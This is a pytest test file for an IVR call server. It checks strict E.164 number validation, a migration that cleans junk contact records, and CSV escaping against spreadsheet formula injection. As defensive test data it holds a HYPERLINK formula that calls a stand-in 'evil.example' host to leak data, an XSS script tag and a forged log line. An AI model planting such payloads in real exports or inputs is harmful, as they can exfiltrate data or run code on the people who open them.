"""Caller numbers are exactly E.164 everywhere, old junk is folded away, CSV cells are inert.

The dial check used to be unanchored, so ``"+15557654321 junk"`` (or a newline
and a fake log line, HTML, 60,000 characters) was stored as a contact, and
erasing ``+15550001111`` missed the call from ``"+15550001111 x"``. Now one
check (:mod:`ivr.e164`) serves the dial, the API, the CLI, scenarios and the
config; the store keeps only E.164 contacts; migration 6 folds the junk of
old databases into the clean number's contact. CSV exports escape cells a
spreadsheet would run as formulas.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import sqlite3
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile as sf
from aiohttp import web
from aiohttp.test_utils import TestClient

from ivr.e164 import is_e164, leading_number
from ivr.errors import InvalidConfig, StoreError
from ivr.load.errors import InvalidScenario
from ivr.load.scenario import parse_scenario
from ivr.privacy.csvcell import FORMULA_STARTS, cell
from ivr.server.keys import store_key
from ivr.store import MIGRATIONS, Store
from tests.agent_helpers import signed_in_agent
from tests.conftest import AppFactory, Caller, add_user, build_config

Client = TestClient[web.Request, web.Application]
CLEAN = "+15557654321"
JUNK = [
    CLEAN + " junk",
    CLEAN + "\n2024-01-01 12:00:00 INFO ivr.call call c_0 from +1555*****21 ended: caller",
    CLEAN + "<script>alert(1)</script>",
    CLEAN + "x" * 60000,
    CLEAN + "\n",  # what `$` would have let through
    CLEAN + "00000",  # 16 digits: 15 is the most
]


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_the_one_check() -> None:
    assert is_e164("+15550100")
    assert is_e164("+" + "1" * 15)
    for bad in [*JUNK, "+" + "1" * 16, "+0555", "+1", "15550100", " +15550100", "+1555\u0663"]:
        assert not is_e164(bad), bad
    assert not is_e164(None)
    assert leading_number(CLEAN + " x") == CLEAN
    assert leading_number(CLEAN + "\nlog") == CLEAN
    assert leading_number(CLEAN) is None  # nothing to fold: it is clean
    assert leading_number(CLEAN + "00000") is None  # 16 digits: not a number plus junk
    assert leading_number("<b>" + CLEAN) is None


@pytest.mark.parametrize("field", ["from", "to"])
@pytest.mark.parametrize("junk", JUNK, ids=range(len(JUNK)))
async def test_a_dial_with_junk_after_the_number_is_refused(
    start_app: AppFactory,
    new_caller: Callable[..., Caller],
    caplog: pytest.LogCaptureFixture,
    field: str,
    junk: str,
) -> None:
    client = await start_app()
    caller = new_caller(client)
    await caller.connect()
    dial = {"type": "dial", "to": "+15550100", "from": CLEAN, "codec": "pcm_s16le", "rate": 8000}
    with caplog.at_level(logging.DEBUG, logger="ivr"):
        await caller.send({**dial, field: junk})
        err = await caller.wait_for("error")
        assert err["code"] == "bad_field"
        assert err["message"].startswith(f"'{field}' must be an E.164 number")
        assert len(err["message"]) < 200  # the junk is not echoed in full
        assert "\n" not in err["message"]
        assert junk[len(CLEAN) :][:40] not in err["message"] or len(junk) - len(CLEAN) < 12
        # Nothing else is disturbed: the same socket may dial again, correctly.
        await caller.send(dial)
        answered = await caller.wait_for("answered")
        await caller.hangup()
        await caller.closed_wait()
    store = client.app[store_key]
    async with store.db.execute("SELECT number FROM contacts") as cur:
        assert [r[0] for r in await cur.fetchall()] == [CLEAN]
    async with store.db.execute("SELECT id, number FROM calls") as cur:
        assert [tuple(r) for r in await cur.fetchall()] == [(answered["call_id"], "+15550100")]
    logged = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("ivr"))
    assert "call " in logged  # the server did log the call, with its number masked
    tail = junk[len(CLEAN) :].strip()
    assert not tail or tail not in logged
    assert CLEAN not in logged  # numbers are masked in logs


async def test_the_store_keeps_only_e164_contacts(tmp_path: Path) -> None:
    store = Store(tmp_path)
    await store.open()
    try:
        for junk in JUNK:
            with pytest.raises(StoreError, match=r"not an E\.164 number"):
                await store.calls.contact_id(junk)
        assert await store.calls.contact_id(CLEAN) == await store.calls.contact_id(CLEAN)
        async with store.db.execute("SELECT number FROM contacts") as cur:
            assert [r[0] for r in await cur.fetchall()] == [CLEAN]
    finally:
        await store.close()


async def test_the_api_and_the_cli_refuse_junk_numbers(
    start_app: AppFactory, tmp_path: Path
) -> None:
    client = await start_app()
    admin = await add_user(client, "adm@example.com", "admin")
    resp = await client.get(
        "/v1/recordings", params={"contact": CLEAN + " x"}, headers=bearer(admin)
    )
    assert resp.status == 422
    body = await resp.json()
    assert body["error"]["field"] == "contact"
    for path in ("/v1/privacy/erasures", "/v1/privacy/exports"):
        resp = await client.post(path, headers=bearer(admin), json={"contact": CLEAN + "\n"})
        assert resp.status == 422, path
        assert (await resp.json())["error"]["field"] == "contact"
    resp = await client.get("/v1/numbers/+15550100%0A", headers=bearer(admin))
    assert resp.status == 404
    data = client.app[store_key].data_dir
    for command in (["erase"], ["export", "--out", str(tmp_path / "x.zip")]):
        proc = await asyncio.create_subprocess_exec(
            *[sys.executable, "-m", "ivr", *command, "--contact", CLEAN + "\n"],
            *["--data", str(data)],
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        _, stderr = await asyncio.wait_for(proc.communicate(), 60)
        assert proc.returncode == 1, stderr
        assert b"--contact must be an E.164 number" in stderr


def test_scenarios_and_the_config_take_only_e164_numbers(
    tmp_path: Path, config_data: dict[str, Any]
) -> None:
    scenario = {"name": "t", "to": "+15550100\n", "calls": 1, "concurrency": 1}
    scenario["mix"] = {"a": {"kind": "consent", "to": "+15550101 x"}}
    with pytest.raises(InvalidScenario) as info:
        parse_scenario(scenario, "s.yaml", tmp_path)
    paths = {p.path for p in info.value.problems}
    assert {"to", "mix.a.to"} <= paths
    config_data["numbers"]["+15550100\n"] = config_data["numbers"].pop("+15550100")
    with pytest.raises(InvalidConfig) as cfg:
        build_config(config_data, tmp_path)
    assert any(p.path == "numbers.+15550100\n" for p in cfg.value.problems)


# -- migration 6 on a database of the old schema ---------------------------------------

FOLDED = "+15550001111"
OLD_CONTACTS = {
    "p_clean": FOLDED,
    "p_space": FOLDED + " x",
    "p_long": FOLDED + "y" * 60000,
    "p_newline": "+15557770000\n2024-01-01 INFO fake log line",  # no clean twin yet
    "p_html": "<b>not a number</b>",
    "p_toolong": "+1555000111122223333",
}


def _old_database(data: Path) -> dict[str, str]:
    """A data folder as the old code left it (schema version 4), with a recording per call."""
    data.mkdir(parents=True)
    db = sqlite3.connect(data / "ivr.sqlite3")
    for script in MIGRATIONS[:4]:
        assert isinstance(script, str)
        db.executescript(script)
    db.execute("PRAGMA user_version = 4")
    at = "2024-05-01T10:00:00.000Z"
    recordings = {}
    for n, (contact_id, number) in enumerate(OLD_CONTACTS.items()):
        call_id, rec_id = f"c_{contact_id}", f"r_{contact_id}"
        db.execute(
            "INSERT INTO contacts (id, number, created_at) VALUES (?, ?, ?)",
            (contact_id, number, at),
        )
        db.execute(
            "INSERT INTO calls (id, number, contact_id, flow_id, flow_version, codec, "
            "sample_rate, client_ref, started_at, ended_at, end_reason, line, team, "
            "recording_decision) VALUES (?, '+15550100', ?, 'consent', 'v1', 'pcm_s16le', "
            "8000, ?, ?, ?, 'caller', 'recorded', 'support', '{\"record\": true}')",
            (call_id, contact_id, f"ref-{n}", at, at),
        )
        db.execute(
            "INSERT INTO consents (id, call_id, contact_id, number, flow_id, flow_version, "
            "consent_mode, decision, digit, evidence, created_at) VALUES (?, ?, ?, '+15550100', "
            "'consent', 'v1', 'opt_in', 'granted', '1', '{}', ?)",
            (f"k_{contact_id}", call_id, contact_id, at),
        )
        rel = f"2024/05/01/{rec_id}.wav"
        path = data / "recordings" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        sf.write(str(path), np.full((800, 2), n + 1, np.int16), 8000, subtype="PCM_16")
        db.execute(
            "INSERT INTO recordings (id, call_id, path, status, started_at, ended_at, "
            "duration_s, sample_rate, channels, format, size_bytes) VALUES "
            "(?, ?, ?, 'complete', ?, ?, 0.1, 8000, 2, 'wav/pcm_s16le', ?)",
            (rec_id, call_id, rel, at, at, path.stat().st_size),
        )
        recordings[contact_id] = rec_id
    db.commit()
    db.close()
    return recordings


def _rows(data: Path) -> dict[str, Any]:
    db = sqlite3.connect(data / "ivr.sqlite3")
    try:
        return {
            "version": db.execute("PRAGMA user_version").fetchone()[0],
            "contacts": sorted(db.execute("SELECT id, number, pseudonym FROM contacts")),
            "calls": sorted(db.execute("SELECT id, contact_id FROM calls")),
            "consents": sorted(db.execute("SELECT id, contact_id FROM consents")),
        }
    finally:
        db.close()


async def test_migration_6_folds_junk_contacts_into_the_clean_number(
    start_app: AppFactory, tmp_path: Path
) -> None:
    data = tmp_path / "old"
    recordings = _old_database(data)
    store = Store(data)
    await store.open()
    await store.close()
    after = _rows(data)
    assert after["version"] == len(MIGRATIONS)  # every migration ran, 6 among them
    contacts = {cid: (number, pseud) for cid, number, pseud in after["contacts"]}
    # Junk after a whole number: folded into that number's contact (the first
    # such contact becomes it when the clean number had none).
    assert set(contacts) == {"p_clean", "p_newline", "p_html", "p_toolong"}
    assert contacts["p_clean"] == (FOLDED, None)
    assert contacts["p_newline"] == ("+15557770000", None)
    # Anything else: no number any more, a pseudonym instead; never matched.
    for cid in ("p_html", "p_toolong"):
        number, pseud = contacts[cid]
        assert number is None
        assert pseud.startswith("ps_")
    calls = dict(after["calls"])
    assert calls == {
        "c_p_clean": "p_clean",
        "c_p_space": "p_clean",
        "c_p_long": "p_clean",
        "c_p_newline": "p_newline",
        "c_p_html": "p_html",
        "c_p_toolong": "p_toolong",
    }
    assert dict(after["consents"]) == {"k_" + c.removeprefix("c_"): p for c, p in calls.items()}
    for _, number, _ in after["contacts"]:
        assert number is None or is_e164(number)

    # Idempotent: run again from version 4, nothing changes.
    db = sqlite3.connect(data / "ivr.sqlite3")
    db.execute("PRAGMA user_version = 4")
    db.commit()
    db.close()
    store = Store(data)
    await store.open()
    await store.close()
    assert _rows(data) == after

    # The real app on the migrated folder: the number's export and erasure
    # now cover the calls that came with junk after it.
    client = await start_app(data_dir=data)
    admin = await add_user(client, "adm@example.com", "admin")
    listed = await (
        await client.get("/v1/recordings", params={"contact": FOLDED}, headers=bearer(admin))
    ).json()
    folded = {recordings[c] for c in ("p_clean", "p_space", "p_long")}
    assert {r["id"] for r in listed["items"]} == folded
    assert {r["contact"] for r in listed["items"]} == {FOLDED}
    export = {"contact": FOLDED, "since": "2024-01-01T00:00:00Z"}
    resp = await client.post("/v1/privacy/exports", headers=bearer(admin), json=export)
    assert resp.status == 200
    with zipfile.ZipFile(io.BytesIO(await resp.read())) as zf:
        exported = json.loads(zf.read("calls.json"))
        names = set(zf.namelist())
    assert {c["id"] for c in exported} == {"c_p_clean", "c_p_space", "c_p_long"}
    assert {f"recordings/{r}.wav" for r in folded} <= names
    resp = await client.post(
        "/v1/privacy/erasures", headers=bearer(admin), json={"contact": FOLDED}
    )
    assert resp.status == 201
    receipt = await resp.json()
    assert receipt["erased"]["recordings"] == 3
    assert receipt["erased"]["calls_pseudonymised"] == 3
    store = client.app[store_key]
    for contact_id, rec_id in recordings.items():
        gone = contact_id in ("p_clean", "p_space", "p_long")
        assert (store.recordings_dir / f"2024/05/01/{rec_id}.wav").exists() is not gone
    async with store.db.execute("SELECT number FROM contacts WHERE number IS NOT NULL") as cur:
        assert [r[0] for r in await cur.fetchall()] == ["+15557770000"]
    raw = (data / "ivr.sqlite3").read_bytes()
    assert b"not a number" not in raw
    assert b"fake log line" not in raw


# -- CSV exports -------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak","click me")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_cell_that_could_start_a_formula_is_escaped() -> None:
    for risky in ("=1+2", "+15550100", "-2", "@SUM(A1)", "\t=1", "\r=1"):
        assert cell(risky) == "'" + risky
    for kept in ("plain", "c_0123", "(none)", "", " =1", "'quoted"):
        assert cell(kept) == kept
    for number in (0, 3, -1, 0.25, -0.5, None):
        assert cell(number) == number


async def test_the_privacy_export_csv_escapes_names_and_numbers(
    start_app: AppFactory, new_caller: Callable[..., Caller]
) -> None:
    client = await start_app()
    admin = await add_user(client, "adm@example.com", "admin")
    body = {
        "email": "eve@example.com",
        "name": FORMULA,
        "role": "agent",
        "teams": ["desk"],
        "password": "correct horse battery",
    }
    assert (await client.post("/v1/users", headers=bearer(admin), json=body)).status == 201
    login = {"email": "eve@example.com", "password": "correct horse battery"}
    token = (await (await client.post("/v1/auth/login", json=login)).json())["token"]
    agent = await signed_in_agent(client, new_caller, token)
    caller = new_caller(client)
    await caller.dial("+15550102", frm=CLEAN, client_ref="=1+2")
    await caller.wait_for("prompt", event="start", node="consent")
    await caller.send({"type": "dtmf", "digits": "2"})
    offer = await agent.wait_for("offer")
    await agent.send({"type": "answer", "call_id": offer["call_id"]})
    await caller.wait_for("connected")
    await asyncio.sleep(0.1)
    await caller.hangup()
    await caller.closed_wait()

    resp = await client.post("/v1/privacy/exports", headers=bearer(admin), json={"contact": CLEAN})
    assert resp.status == 200
    with zipfile.ZipFile(io.BytesIO(await resp.read())) as zf:
        rows = _cells(zf.read("calls.csv").decode())
        as_json = json.loads(zf.read("calls.json"))
    header, [row] = rows[0], rows[1:]
    got = dict(zip(header, row, strict=True))
    assert got["agent_name"] == "'" + FORMULA
    assert got["contact"] == "'" + CLEAN
    assert got["number"] == "'+15550102"
    assert got["id"] == offer["call_id"]
    assert all(not c.startswith(FORMULA_STARTS) for r in rows for c in r)
    # The JSON is data, not a spreadsheet: it keeps the values as they are.
    assert as_json[0]["agent_name"] == FORMULA
    assert as_json[0]["client_ref"] == "=1+2"


async def test_the_analytics_csv_escapes_team_and_bot_names(
    start_app: AppFactory, new_caller: Callable[..., Caller], config_data: dict[str, Any]
) -> None:
    team = "@SUM(1+1)"
    config_data["teams"][team] = {"bots": 1}
    config_data["flows"]["sales"]["nodes"]["line"]["team"] = team
    client = await start_app(config_data)
    sup = await add_user(client, "sup@example.com", "supervisor")
    caller = new_caller(client)
    await caller.dial("+15550101")
    assert (await caller.wait_for("connected"))["agent"] == f"{team} bot 1"
    await caller.hangup()
    await caller.closed_wait()
    resp = await client.get("/v1/analytics/export", headers=bearer(sup))
    assert resp.status == 200
    rows = _cells(await resp.text())
    keys = {(r[0], r[1]) for r in rows[1:]}
    assert ("team", "'" + team) in keys
    assert ("agent", f"'{team} bot 1") in keys
    assert rows[1][:3] == ["all", "all", "1"]
    assert all(not c.startswith(FORMULA_STARTS) for r in rows for c in r)
